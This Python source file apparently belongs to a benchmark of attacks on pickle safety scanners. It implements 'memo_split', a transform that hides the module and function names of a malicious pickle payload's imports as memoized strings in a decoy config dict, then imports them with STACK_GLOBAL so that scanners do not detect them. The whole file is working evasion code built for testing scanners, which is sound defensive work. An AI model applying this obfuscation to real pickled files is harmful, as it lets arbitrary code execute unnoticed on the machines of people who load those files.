"""Memo splitting: the payload's module and function names live only as memoized strings of a decoy dict.

Every global of the payload becomes `GET module; GET name; STACK_GLOBAL`; the strings were stored earlier
(PUT) as the values of an innocent-looking config dict that is built and discarded. No GLOBAL opcode and no
string push sits next to the STACK_GLOBAL that imports the callable. The unpickler accepts STACK_GLOBAL and the
binary memo opcodes in a stream of any protocol; dotted names are split into getattr chains below protocol 4
(where find_class does not resolve dots). Memo keys start high (100000+) so they never meet the carrier's.
"""

from __future__ import annotations

import random
import struct

from safepickle_bench.attacks.target import AttackedPayload, attacked, map_globals
from safepickle_bench.craft.payloads import Glob, Node, Payload, attr, render

_DECOY_KEYS = ("framework", "entry", "backend", "hook", "handler", "runtime", "plugin", "target", "scope", "loader")
MEMO_BASE = 100_000


def _put(index: int, protocol: int) -> bytes:
    """Return a memo store of the stack top under `index`."""
    return b"p%d\n" % index if protocol == 0 else b"r" + struct.pack("<I", index)


def _get(index: int, protocol: int) -> bytes:
    """Return a memo fetch of `index`."""
    return b"g%d\n" % index if protocol == 0 else b"j" + struct.pack("<I", index)


def _split_dotted(node: Node, protocol: int) -> Node:
    """Return the tree with dotted global names turned into getattr chains when protocol < 4."""
    if protocol >= 4:
        return node

    def fix(g: Glob) -> Node:
        if "." not in g.name:
            return g
        head, *rest = g.name.split(".")
        out: Node = Glob(g.module, head)
        for part in rest:
            out = attr(out, part)
        return out

    return map_globals(node, fix)


def memo_split(payload: Payload, rng: random.Random) -> AttackedPayload:
    """Return the payload with every global imported by STACK_GLOBAL from memoized decoy-dict strings."""
    base = MEMO_BASE + rng.randrange(50_000)
    keys = list(_DECOY_KEYS)
    random.Random(rng.getrandbits(32)).shuffle(keys)

    def renderer(protocol: int) -> bytes:
        tree = _split_dotted(payload.expr, protocol)
        globs: list[Glob] = []

        def mark(g: Glob) -> Node:
            if g not in globs:
                globs.append(g)
            return Glob(f"SAFEPICKLESPLIT{globs.index(g)}", "x")

        marked = map_globals(tree, mark)
        body = render(marked, protocol, stack_global=False)
        strings: list[str] = []
        for g in globs:
            for s in (g.module, g.name):
                if s not in strings:
                    strings.append(s)
        index = {s: base + i for i, s in enumerate(strings)}
        for i, g in enumerate(globs):
            sentinel = b"cSAFEPICKLESPLIT%d\nx\n" % i
            body = body.replace(sentinel, _get(index[g.module], protocol) + _get(index[g.name], protocol) + b"\x93")
        decoy = bytearray(b"(" if protocol == 0 else b"}(")
        for i, s in enumerate(strings):
            key = f"{keys[i % len(keys)]}{i // len(keys) or ''}"
            decoy += render(key, protocol) + render(s, protocol) + _put(index[s], protocol)
        decoy += (b"d" if protocol == 0 else b"u") + b"0"
        return bytes(decoy) + body

    return attacked(payload, renderer, description=f"{payload.description} with memo-split STACK_GLOBAL names")
